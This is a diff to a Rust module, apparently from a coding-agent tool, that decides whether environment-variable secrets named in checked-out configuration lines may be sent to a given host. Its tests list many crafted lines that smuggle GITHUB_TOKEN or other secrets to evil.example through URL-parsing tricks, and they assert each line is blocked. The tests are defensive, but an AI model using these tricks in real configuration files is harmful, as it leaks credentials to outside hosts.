@@ -6,7 +6,11 @@
 //! A configuration comes with a checkout, and whoever wrote it says where secrets are sent. What a user sets for an agent
 //! is meant for it; what a cloud, a CI system or a registry sets is not.
 
+mod line;
+
 use crate::env::Env;
+
+pub(crate) use line::{named, without_escapes};
 
 /// Set, it trusts the configuration with everything; `--trust-config` sets it for one run.
 pub(crate) const VARIABLE: &str = "AGENTCORE_TRUST_CONFIG";
@@ -277,24 +281,41 @@ pub(crate) fn may_be_built_with(name: &str, env: &Env) -> bool {
         && (!is_of_machine(name) || has_word(&upper, INDEX_WORDS) || upper.starts_with("NODE_AUTH_"))
 }
 
-/// Whether a variable may be part of what is sent to the hosts in `address`, a line of a file that comes with a checkout:
-/// one of a platform goes to that platform only, one for package indexes anywhere, and any other nowhere. An address may
-/// be a line with several; it names its hosts after `//`.
-pub(crate) fn may_be_sent(name: &str, address: &str, env: &Env) -> bool {
+/// How far a variable may go that a file of a checkout names.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Reach {
+    /// Wherever the file sends it.
+    Anywhere,
+    /// Into this line. Whoever fills it in keeps it from every other.
+    Line,
+    Nowhere,
+}
+
+/// How far a variable may go that `line` names, a line of a file that comes with a checkout: one of a platform goes to
+/// that platform only, one for package indexes anywhere, and any other stays here.
+pub(crate) fn reach(name: &str, line: &str, env: &Env) -> Reach {
+    let upper = name.to_ascii_uppercase();
+    let of_index = || has_word(&upper, INDEX_WORDS) || upper.starts_with("NODE_AUTH_");
     if is_given(env) || is_for_builds(name, env) {
-        return true;
+        return Reach::Anywhere;
     }
-    if !is_of_platform(name) {
-        let upper = name.to_ascii_uppercase();
-        return has_word(&upper, INDEX_WORDS)
-            || upper.starts_with("NODE_AUTH_")
-            || PLACES.contains(&upper.as_str())
-            || stays_here(name, address);
-    }
-    let name = name.to_ascii_uppercase();
+    let fits = match is_of_platform(name) {
+        false if of_index() || PLACES.contains(&upper.as_str()) => return Reach::Anywhere,
+        false => line::stays_here(name, line),
+        true => goes_to_its_platform(&upper, line, env),
+    };
+    if fits { Reach::Line } else { Reach::Nowhere }
+}
+
+pub(crate) fn may_be_sent(name: &str, line: &str, env: &Env) -> bool {
+    reach(name, line, env) != Reach::Nowhere
+}
+
+/// Whether every host of the line is one of the platform that the variable, in upper case, belongs to.
+fn goes_to_its_platform(name: &str, line: &str, env: &Env) -> bool {
     let starts = |list: &[&str]| list.iter().any(|start| name.starts_with(start));
-    let of_host = |host: &str| code_host(&name) == Some(host);
-    let server = |variable: &str| env.var(variable).and_then(|url| hosts(url).next());
+    let of_host = |host: &str| code_host(name) == Some(host);
+    let server = |variable: &str| line::hosts(env.var(variable)?, env)?.into_iter().next();
     let (domains, own): (&[&str], _) = match () {
         () if of_host("GITHUB") || of_host("GH") => (&["github.com"], server("GITHUB_SERVER_URL")),
         () if of_host("GITLAB") || starts(&["CI_"]) => (&["gitlab.com"], server("CI_SERVER_URL")),
@@ -303,49 +324,11 @@ pub(crate) fn may_be_sent(name: &str, address: &str, env: &Env) -> bool {
         () if starts(&["GOOGLE_", "GCP_"]) => (&["pkg.dev"], None),
         () => return false,
     };
-    let is_own = |host: &str| {
+    let is_own = |host: &String| {
         let below = |domain: &str| host == domain || host.strip_suffix(domain).is_some_and(|rest| rest.ends_with('.'));
-        domains.iter().any(|domain| below(domain)) || own.is_some_and(|own| own == host)
+        domains.iter().any(|domain| below(domain)) || own.as_ref() == Some(host)
     };
-    let mut hosts = hosts(address).peekable();
-    hosts.peek().is_some() && hosts.all(is_own)
-}
-
-/// Whether `${NAME}` stands in the line only where nothing is sent to a host that the line chooses: in a path, or at the
-/// beginning of an address, which then is the variable's own. Lines of settings, `KEY=VALUE`, hold logins too: of them only
-/// those that choose a registry count.
-fn stays_here(name: &str, line: &str) -> bool {
-    let reference = format!("${{{name}");
-    let setting = line.split_once('=').filter(|(_, value)| !value.starts_with('=')).map(|(key, _)| key.trim());
-    let setting =
-        setting.filter(|key| key.starts_with("//") || !key.contains([' ', '/', '$', '@', '<', '>', '~', '!']));
-    if setting.is_some_and(|key| !key.starts_with('-') && !key.ends_with("registry")) {
-        return false;
-    }
-    let words = line.split(|c: char| c.is_whitespace() || "='\"".contains(c));
-    words.filter(|word| word.contains(&reference)).all(|word| {
-        let before = word.split(&reference).next().unwrap_or_default();
-        let rest = word[before.len()..].split_once('}').map_or("", |(_, rest)| rest);
-        let alone = before.is_empty() && !rest.contains(&reference);
-        alone || !before.contains([':', '@', '\\']) && !before.starts_with("//") || is_file_url(before)
-    })
-}
-
-/// Whether the beginning of an address is that of a file on this machine.
-fn is_file_url(before: &str) -> bool {
-    let lower = before.to_ascii_lowercase();
-    let address = lower.strip_prefix("git+").unwrap_or(&lower);
-    let path = address.strip_prefix("file:");
-    path.is_some_and(|path| path.strip_prefix("//").is_none_or(|rest| rest.is_empty() || rest.starts_with('/')))
-}
-
-/// What stands where a URL has its host, without user and port. Browsers and clients take `\` for `/`.
-fn hosts(text: &str) -> impl Iterator<Item = &str> {
-    text.split("//").skip(1).map(|rest| {
-        let end = rest.find(|c: char| c.is_whitespace() || "/\\?#\"'=".contains(c)).unwrap_or(rest.len());
-        let host = rest[..end].rsplit('@').next().unwrap_or_default();
-        host.split(':').next().unwrap_or_default()
-    })
+    line::hosts(line, env).is_some_and(|hosts| !hosts.is_empty() && hosts.iter().all(is_own))
 }
 
 /// Whether a job's token for this audience signs in at a cloud or a registry.
@@ -412,7 +395,11 @@ mod tests {
 
     #[test]
     fn a_platforms_variable_goes_to_that_platform_only() {
-        let vars = [("CI_SERVER_URL", "https://git.acme.example:8443"), ("GITHUB_SERVER_URL", "https://github.com")];
+        let vars = [
+            ("CI_SERVER_URL", "https://git.acme.example:8443"),
+            ("GITHUB_SERVER_URL", "https://github.com"),
+            ("HOME", "/root"),
+        ];
         let env = Env::fake(std::path::Path::new("/"), &vars);
         for (name, address) in [
             ("GITHUB_TOKEN", "git+https://${GITHUB_TOKEN}@github.com/o/r"),
@@ -431,6 +418,12 @@ mod tests {
             ("GITHUB_TOKEN", "https://evil.example\\\\@github.com/${GITHUB_TOKEN}"),
             ("GITHUB_TOKEN", "https://github.com:x@evil.example/${GITHUB_TOKEN}"),
             ("GITHUB_TOKEN", "token ${GITHUB_TOKEN}"),
+            ("GITHUB_TOKEN", "https:/evil.example/?x=//github.com/${GITHUB_TOKEN}"),
+            ("GITHUB_TOKEN", "git+ssh:evil.example//github.com/${GITHUB_TOKEN}"),
+            ("GITHUB_TOKEN", "git+git@evil.example:o/${GITHUB_TOKEN}//github.com/"),
+            ("GITHUB_TOKEN", "https://evil.example\"@github.com/${GITHUB_TOKEN}"),
+            ("GITHUB_TOKEN", "https://evil.example${HOME}@github.com/${GITHUB_TOKEN}"),
+            ("GITHUB_TOKEN", "--find-links \"https:/evil.example/ https://github.com/${GITHUB_TOKEN}\""),
             ("CI_JOB_TOKEN", "https://${CI_JOB_TOKEN}@github.com/"),
         ] {
             assert!(!may_be_sent(name, address, &env), "{name} {address}");
@@ -462,6 +455,24 @@ mod tests {
                 "_authToken=${NAME}",
                 "user-agent=${NAME}",
                 "ca[]=${NAME}",
+                "--find-links https://evil.example/?x=${NAME}",
+                "six @ https://evil.example/six-1.0-py3-none-any.whl?x=${NAME}",
+                "registry=https://evil.example/?x=${NAME}",
+                "registry=https://evil.example/ ${NAME}",
+                "https:evil.example?registry=${NAME}",
+                "--find-links \"https://evil.example/ ${NAME}\"",
+                "--find-links=\"${NAME} @evil.example/\"",
+                "https://evil.example/six-1.0-py3-none-any.whl ${NAME}",
+                "--index-url ${NAME}.evil.example/simple",
+                "--index-url=${NAME}.evil.example/simple",
+                "-i${NAME}.evil.example/simple",
+                "--find-links==${NAME}.evil.example/",
+                "${NAME}@evil.example/",
+                "git+${NAME}@evil.example:o/r",
+                "git+${NAME}.evil.example/o/r",
+                "six @ ${PIP_INDEX_URL}.evil.example/${NAME}",
+                "registry=${NAME-x}.evil.example/",
+                "./a\u{1c}git+${NAME}.evil.example/",
             ] {
                 let line = line.replace("NAME", name);
                 assert!(!may_be_sent(name, &line, &env), "{line}");
@@ -477,6 +488,13 @@ mod tests {
             ("NAMED", "-i https://u:${NAMED}@r.example/simple"),
             ("MIRROR", "--extra-index-url ${MIRROR}/simple"),
             ("MIRROR", "registry=${MIRROR}"),
+            ("MIRROR", "@acme:registry = \"${MIRROR}\""),
+            ("MIRROR", "--index-url=${MIRROR}/simple"),
+            ("MIRROR", "-i ${MIRROR}"),
+            ("MIRROR", "lib @ ${MIRROR}/lib-1-py3-none-any.whl ; python_version > '3.9'"),
+            ("REPOSITORY", "lib @ git+${REPOSITORY}/lib"),
+            ("RELEASE", "wheels/lib-${RELEASE}-py3-none-any.whl"),
+            ("RELEASE", "lib>=${RELEASE} --hash=sha256:aa"),
             ("PROJECT_ROOT", "lib @ file://${PROJECT_ROOT}/lib"),
             ("PROJECT_ROOT", "-e ./${PROJECT_ROOT}/lib"),
             ("RELEASE", "lib[extra]==${RELEASE}"),
